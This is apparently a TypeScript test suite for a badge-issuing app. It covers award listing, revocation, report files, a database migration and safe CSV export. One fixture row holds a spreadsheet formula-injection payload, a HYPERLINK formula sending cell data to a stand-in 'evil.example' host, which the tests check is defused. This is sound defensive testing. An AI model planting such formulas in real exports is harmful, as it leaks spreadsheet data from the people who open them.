import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { MIGRATIONS } from '../../../main/db/migrations.js';
import { migrate } from '../../../main/db/open.js';
import { insertBadge } from '../../../main/db/repos/badges.js';
import { listIssuances } from '../../../main/db/repos/issuances.js';
import { getAwardView, listAwards, requireAward } from '../../../main/services/awards.js';
import { issueBatch, type IssueSummary } from '../../../main/services/issue-batch.js';
import { initKeystore, type Keystore } from '../../../main/services/keystore.js';
import { csvCell } from '../../../main/services/people-csv.js';
import { revokeAward, revokeCredential } from '../../../main/services/revoke.js';
import { createSignPool, type SignPool } from '../../../main/services/sign-pool.js';
import { createIssuer, createWorkspace, type Workspace } from '../../../main/services/workspace.js';
import { tempDir } from '../../cli/helpers.js';
import { badgeRecord } from '../badge-record.js';

let now = new Date('2026-05-01T12:00:00Z');
const clock = () => now;

const ALL = ['ob3-di', 'ob3-jwt', 'ob2-hosted', 'ob2-signed'] as const;

describe('awards: one badge × one person, every format', () => {
  const root = tempDir('bs-awards-');
  const out = join(root, 'out');
  let ws: Workspace;
  let keystore: Keystore;
  let pool: SignPool;
  let first: IssueSummary;

  const issue = (
    csv: string,
    formats: readonly (typeof ALL)[number][],
    badgeId = 'premiers-secours',
  ) => {
    const path = join(root, `${Math.random().toString(36).slice(2)}.csv`);
    writeFileSync(path, csv);
    return issueBatch(ws, keystore, {
      badgeId,
      csvPath: path,
      formats,
      bake: ['png'],
      outDir: out,
      signPool: pool,
    });
  };

  beforeAll(async () => {
    ws = createWorkspace(join(root, 'ws'), { clock });
    createIssuer(ws, {
      name: 'Amicale',
      url: 'https://amicale.example.org/',
      siteUrl: 'https://badges.example.org/amicale/',
      email: 'contact@amicale.example.org',
    });
    keystore = await initKeystore(ws, 'pw', { cost: { N: 2 ** 10 } });
    insertBadge(ws.db, badgeRecord('premiers-secours'));
    insertBadge(ws.db, badgeRecord('guide', { name: 'Guide bénévole' }));
    pool = createSignPool({ size: 0 });
    first = await issue(
      'email,name\nelodie.lefevre@example.fr,Élodie Lefèvre\nfrancois.muller@example.fr,=HYPERLINK("http://evil.example/"&A1)\nnot-an-email,X\n',
      ALL,
    );
  }, 60_000);

  it('gives each person one award holding all four formats; the summary counts people', () => {
    expect(first).toMatchObject({ issued: 2, rejected: 1, credentials: 8 });
    const awards = listAwards(ws);
    expect(awards).toHaveLength(2);
    for (const award of awards) {
      expect(award.formats).toEqual([...ALL]);
      expect(award.status).toBe('valid');
      expect(new Set(listIssuances(ws.db, { awardId: award.id }).map((i) => i.format))).toEqual(
        new Set(ALL),
      );
    }
    expect(awards.map((a) => a.recipient.email)).toEqual([
      'elodie.lefevre@example.fr',
      'francois.muller@example.fr',
    ]);
    expect(awards[0]!.pageUrl).toBe(
      `https://badges.example.org/amicale/credentials/${awards[0]!.credentials[0]!.id}.html`,
    );
  });

  it('filters by badge and by a search text, ignoring case and accents', async () => {
    await issue('email,name\nelodie.lefevre@example.fr,Élodie Lefèvre\n', ['ob3-di'], 'guide');
    expect(listAwards(ws, { search: 'ELODIE' }).map((a) => a.badge.id)).toEqual([
      'premiers-secours',
      'guide',
    ]);
    expect(
      listAwards(ws, { search: 'lefèvre', badgeId: 'guide' }).map((a) => a.badge.name),
    ).toEqual(['Guide bénévole']);
    expect(listAwards(ws, { search: 'muller@' })).toHaveLength(1);
    expect(listAwards(ws, { search: 'nobody' })).toEqual([]);
    expect(() => listAwards(ws, { badgeId: 'nope' })).toThrow(
      expect.objectContaining({ code: 'ERR_BADGE_NOT_FOUND' }),
    );
  });

  it('keeps the same award when a later run adds a format to a person', async () => {
    await issue('email\nanna@example.fr\n', ['ob3-di']);
    const before = listAwards(ws, { search: 'anna@' })[0]!;
    await issue('email\nAnna@Example.fr\n', ['ob3-di', 'ob2-signed']);
    const after = listAwards(ws, { search: 'anna@' });
    expect(after).toHaveLength(1);
    expect(after[0]!.id).toBe(before.id);
    expect(after[0]!.formats).toEqual(['ob3-di', 'ob2-signed']);
  });

  it('revokes every format of an award at once with one reason and date; again changes nothing', () => {
    const target = listAwards(ws, { search: 'francois' })[0]!;
    now = new Date('2026-06-01T08:00:00Z');
    const result = revokeAward(ws, { awardId: target.id.slice(0, 8) }, '  Erreur de saisie ');
    expect(result).toMatchObject({ revoked: 4, alreadyRevoked: 0, changed: true });
    const award = getAwardView(ws, target.id);
    expect(award.status).toBe('revoked');
    expect(award.credentials.map((c) => [c.revoked, c.revocationReason, c.revokedAt])).toEqual(
      ALL.map(() => [true, 'Erreur de saisie', '2026-06-01T08:00:00Z']),
    );
    now = new Date('2026-06-02T08:00:00Z');
    const again = revokeAward(ws, { awardId: target.id }, 'Autre raison');
    expect(again).toMatchObject({ revoked: 0, alreadyRevoked: 4, changed: false });
    expect(
      getAwardView(ws, target.id).credentials.every(
        (c) => c.revocationReason === 'Erreur de saisie' && c.revokedAt === '2026-06-01T08:00:00Z',
      ),
    ).toBe(true);
    // Other people's awards are untouched.
    expect(listAwards(ws, { search: 'elodie', badgeId: 'premiers-secours' })[0]!.status).toBe(
      'valid',
    );
  });

  it('revokes by badge and e-mail (normalised as when issuing); one format revoked before stays as it was', () => {
    const award = listAwards(ws, { search: 'elodie', badgeId: 'premiers-secours' })[0]!;
    const jwt = award.credentials.find((c) => c.format === 'ob3-jwt')!;
    expect(revokeCredential(ws, jwt.id, 'Première').otherFormatsValid).toBe(3);
    expect(getAwardView(ws, award.id).status).toBe('partly-revoked');
    const result = revokeAward(
      ws,
      { badgeId: 'premiers-secours', email: '  Elodie.Lefevre@EXAMPLE.fr ' },
      'Toutes',
    );
    expect(result).toMatchObject({ revoked: 3, alreadyRevoked: 1, changed: true });
    const reasons = Object.fromEntries(
      getAwardView(ws, award.id).credentials.map((c) => [c.format, c.revocationReason]),
    );
    expect(reasons).toEqual({
      'ob3-di': 'Toutes',
      'ob3-jwt': 'Première',
      'ob2-hosted': 'Toutes',
      'ob2-signed': 'Toutes',
    });
    // The same person's other badge is not revoked.
    expect(listAwards(ws, { badgeId: 'guide' })[0]!.status).toBe('valid');
  });

  it('says which award is unknown or ambiguous, and checks the reason before changing anything', () => {
    expect(() =>
      revokeAward(ws, { badgeId: 'premiers-secours', email: 'nobody@example.fr' }),
    ).toThrow(expect.objectContaining({ code: 'ERR_AWARD_NOT_FOUND' }));
    expect(() => revokeAward(ws, { badgeId: 'nope', email: 'anna@example.fr' })).toThrow(
      expect.objectContaining({ code: 'ERR_BADGE_NOT_FOUND' }),
    );
    expect(() => requireAward(ws, '0000')).toThrow(
      expect.objectContaining({ code: 'ERR_AWARD_NOT_FOUND' }),
    );
    const anna = listAwards(ws, { search: 'anna@' })[0]!;
    expect(() => revokeAward(ws, { awardId: anna.id }, 'x'.repeat(501))).toThrow(
      expect.objectContaining({ code: 'ERR_USAGE' }),
    );
    expect(getAwardView(ws, anna.id).status).toBe('valid');
    ws.db
      .prepare(
        "INSERT INTO awards (id, badge_id, recipient_id, recipient_key, created) VALUES ('abcdef01-0000-4000-8000-000000000001', 'guide', NULL, 'k1', 'x'), ('abcdef01-0000-4000-8000-000000000002', 'guide', NULL, 'k2', 'x')",
      )
      .run();
    expect(() => requireAward(ws, 'ABCDEF01')).toThrow(
      expect.objectContaining({ code: 'ERR_AWARD_AMBIGUOUS' }),
    );
    expect(requireAward(ws, 'abcdef01-0000-4000-8000-000000000002').recipientKey).toBe('k2');
    ws.db.prepare("DELETE FROM awards WHERE id LIKE 'abcdef01-%'").run();
  });

  it('keeps every run’s report and people list; report.json indexes them', () => {
    const dir = join(out, 'reports', 'premiers-secours');
    const names = readdirSync(dir).sort();
    expect(names.filter((n) => n.endsWith('-report.json'))).toHaveLength(3);
    expect(names.filter((n) => n.endsWith('-people.csv'))).toHaveLength(3);
    const index = JSON.parse(
      readFileSync(join(out, 'premiers-secours', 'report.json'), 'utf8'),
    ) as {
      latest: string;
      runs: { run: string; report: string; people: string; issued: number }[];
    };
    expect(index.runs.map((r) => r.run)).toEqual(
      names.filter((n) => n.endsWith('-report.json')).map((n) => n.replace('-report.json', '')),
    );
    expect(index.runs[0]).toMatchObject({
      run: first.run,
      report: `reports/premiers-secours/${first.run}-report.json`,
      issued: 2,
    });
    expect(index.latest).toBe(index.runs[2]!.report);
    // The first run's report is still the first run's.
    const report = JSON.parse(readFileSync(first.report, 'utf8')) as {
      run: string;
      rows: { email: string | null; award?: string }[];
    };
    expect(report.run).toBe(first.run);
    expect(report.rows.map((r) => r.email)).toEqual([
      'elodie.lefevre@example.fr',
      'francois.muller@example.fr',
      'not-an-email',
    ]);
    expect(report.rows[0]!.award).toBe(
      listAwards(ws, { search: 'elodie', badgeId: 'premiers-secours' })[0]!.id,
    );
  });

  it('writes a people list for a mail merge: one line per person, formulas defused', () => {
    const text = readFileSync(first.people, 'utf8');
    expect(text.startsWith('\uFEFFname,email,badge,')).toBe(true);
    const rows = parse(text.slice(1), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    const francois = rows[1]!;
    expect(francois.name).toBe('\'=HYPERLINK("http://evil.example/"&A1)');
    expect(francois).toMatchObject({
      email: 'francois.muller@example.fr',
      badge: 'Premiers secours',
      badge_id: 'premiers-secours',
      status: 'issued',
    });
    const award = listAwards(ws, { search: 'francois' })[0]!;
    expect(francois.award_id).toBe(award.id);
    expect(francois.page_url).toBe(award.pageUrl);
    expect(francois.image_png).toBe(award.credentials[0]!.files.find((f) => f.endsWith('.png')));
    expect(francois.files!.split('; ').sort()).toEqual(
      award.credentials.flatMap((c) => c.files).sort(),
    );
    expect(
      readdirSync(join(out, 'reports', 'premiers-secours')).filter((n) => n.endsWith('.tmp')),
    ).toEqual([]);
  });

  it('csvCell defuses every formula prefix and quotes', () => {
    expect(
      ['=1+1', '+33 6', '-2', '@SUM(A1)', '\tx', '\rx', 'a"b', 'plain', ''].map(csvCell),
    ).toEqual([
      `"'=1+1"`,
      `"'+33 6"`,
      `"'-2"`,
      `"'@SUM(A1)"`,
      `"'\tx"`,
      `"'\rx"`,
      '"a""b"',
      '"plain"',
      '""',
    ]);
  });

  it('moves a report.json written by an older version aside instead of overwriting it', async () => {
    const legacy = join(out, 'guide', 'report.json');
    const older = '{"badge":"guide","rows":[{"line":2,"status":"issued"}]}\n';
    writeFileSync(legacy, older);
    await issue('email\nzoe@example.fr\n', ['ob3-di'], 'guide');
    const index = JSON.parse(readFileSync(legacy, 'utf8')) as {
      runs: { run: string; report: string }[];
    };
    expect(index.runs.map((r) => r.run)[0]).toBe('earlier');
    expect(index.runs[0]!.report).toBe('reports/guide/0000-earlier-report.json');
    expect(index.runs[1]!.run).toMatch(/^0002-20260602T080000Z$/);
    expect(readFileSync(join(out, index.runs[0]!.report), 'utf8')).toBe(older);
    expect(index.runs).toHaveLength(2);
  });
});

describe('migration 2: awards for existing workspaces', () => {
  it('groups existing issuances by (badge, recipient identity hash) into awards', () => {
    const db = new Database(join(tempDir('bs-awards-migrate-'), 'badgesmith.db'));
    db.pragma('foreign_keys = ON');
    db.exec(MIGRATIONS[0]!);
    db.pragma('user_version = 1');
    db.exec(`
      INSERT INTO badge_classes (id, name, description, created, updated) VALUES ('b1', 'B1', 'd', 't', 't'), ('b2', 'B2', 'd', 't', 't');
      INSERT INTO recipients (id, email, created) VALUES (1, 'a@example.org', 't'), (2, 'b@example.org', 't');
      INSERT INTO batches (id, badge_id, created) VALUES ('batch1', 'b1', 't'), ('batch2', 'b2', 't');
      INSERT INTO issuances (id, credential_id, badge_id, recipient_id, format, issued_on, batch_id, row_key, created) VALUES
        ('i1', 'c1', 'b1', 1, 'ob2-hosted', 't', 'batch1', 'hash-a-b1', '2026-01-01'),
        ('i2', 'c2', 'b1', 1, 'ob2-signed', 't', 'batch1', 'hash-a-b1', '2026-01-01'),
        ('i3', 'c3', 'b1', 2, 'ob2-hosted', 't', 'batch1', 'hash-b-b1', '2026-01-02'),
        ('i4', 'c4', 'b2', 1, 'ob2-hosted', 't', 'batch2', 'hash-a-b2', '2026-01-03'),
        ('i5', 'c5', 'b2', 2, 'ob2-hosted', 't', NULL, NULL, '2026-01-04'),
        ('i6', 'c6', 'b2', 2, 'ob2-signed', 't', NULL, NULL, '2026-01-04');
    `);
    migrate(db);
    expect(db.pragma('user_version', { simple: true })).toBe(MIGRATIONS.length);
    const awardOf = Object.fromEntries(
      (
        db.prepare('SELECT id, award_id FROM issuances').all() as { id: string; award_id: string }[]
      ).map((r) => [r.id, r.award_id]),
    );
    expect(
      Object.values(awardOf).every((id) =>
        /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/.test(id),
      ),
    ).toBe(true);
    expect(awardOf.i1).toBe(awardOf.i2);
    expect(new Set([awardOf.i1, awardOf.i3, awardOf.i4, awardOf.i5]).size).toBe(4);
    expect(awardOf.i5).toBe(awardOf.i6);
    const awards = db
      .prepare('SELECT badge_id, recipient_id, recipient_key, created FROM awards ORDER BY created')
      .all();
    expect(awards).toEqual([
      { badge_id: 'b1', recipient_id: 1, recipient_key: 'hash-a-b1', created: '2026-01-01' },
      { badge_id: 'b1', recipient_id: 2, recipient_key: 'hash-b-b1', created: '2026-01-02' },
      { badge_id: 'b2', recipient_id: 1, recipient_key: 'hash-a-b2', created: '2026-01-03' },
      { badge_id: 'b2', recipient_id: 2, recipient_key: 'recipient:2', created: '2026-01-04' },
    ]);
    db.close();
  });
});
